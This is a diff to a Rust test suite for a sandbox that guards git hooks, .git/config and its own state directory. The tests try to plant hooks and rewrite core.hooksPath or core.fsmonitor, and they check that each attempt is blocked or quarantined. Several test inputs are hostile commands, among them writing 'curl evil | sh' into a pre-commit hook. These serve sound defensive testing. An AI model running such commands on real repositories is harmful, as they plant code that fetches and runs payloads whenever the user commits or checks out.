@@ -138,8 +138,9 @@ fn protected_paths_stay_protected() {
     let w = World::new();
     git_like(&w);
     let hook = w.ws.join(".git/hooks/pre-commit");
-    assert_attack_blocked(&w, "echo 'curl evil | sh' > .git/hooks/pre-commit", &hook);
-    let o = w.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config; git config --file .git/config core.fsmonitor evil");
+    // Through programs, not redirects (the gate refuses those first; this is about the kernel).
+    assert_attack_blocked(&w, "printf 'curl evil | sh' | tee .git/hooks/pre-commit", &hook);
+    let o = w.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' | tee -a .git/config; git config --file .git/config core.fsmonitor evil");
     assert_eq!(
         std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
         "[core]\n",
@@ -162,7 +163,9 @@ fn protected_paths_stay_protected() {
 fn protected_paths_after_renaming_the_parent() {
     let w = World::new();
     git_like(&w);
-    let o = w.run("mv .git g2 && echo evil > g2/hooks/post-checkout; mv g2 .git; echo evil > .git/hooks/post-checkout");
+    // Through programs, not redirects: the gate refuses protected redirects
+    // before anything runs, and this test is about the kernel.
+    let o = w.run("mv .git g2 && printf evil | tee g2/hooks/post-checkout; mv g2 .git; printf evil | tee .git/hooks/post-checkout");
     assert!(
         !exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g2/hooks/post-checkout")),
         "{}",
@@ -173,8 +176,47 @@ fn protected_paths_after_renaming_the_parent() {
         "the repository survived: {}",
         text(&o)
     );
-    let c = w.control("echo evil > .git/hooks/post-checkout");
+    // Renamed away and replaced by a new `.git` with a hook: the original comes back.
+    let o = w.run("mv .git g3 && mkdir -p .git/hooks && printf evil | tee .git/hooks/post-checkout");
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
+    assert!(!exists(&w.ws.join(".git/hooks/post-checkout")), "{}", text(&o));
+    assert_eq!(
+        std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
+        "[core]\n",
+        "the original is back"
+    );
+    assert!(!exists(&w.ws.join("g3")));
+    let c = w.control("printf evil | tee .git/hooks/post-checkout");
     assert!(exists(&w.ws.join(".git/hooks/post-checkout")), "control {}", text(&c));
+}
+
+#[test]
+fn protected_paths_that_do_not_exist_yet_never_survive_a_run() {
+    let w = World::new();
+    let script = "mkdir -p .git/hooks .tether && printf evil | tee .git/hooks/pre-commit .tether/state >/dev/null; printf '[core]\\n' | tee .git/config >/dev/null; echo ran";
+    let o = w.run(script);
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("Sandbox violation: the run wrote protected paths"),
+        "{}",
+        text(&o)
+    );
+    for p in [".git/hooks", ".git/config", ".tether"] {
+        assert!(!exists(&w.ws.join(p)), "{p} survived the run: {}", text(&o));
+    }
+    // Nothing is lost: the creations were moved aside for the operator to see.
+    let aside: Vec<_> = std::fs::read_dir(&w.ws)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        aside.iter().any(|n| n.starts_with(".tether.tether-quarantine-")),
+        "{aside:?}"
+    );
+    // Control: without the sandbox the hook lands.
+    let c = w.control(script);
+    assert!(exists(&w.ws.join(".git/hooks/pre-commit")), "control: {}", text(&c));
 }
 
 #[test]
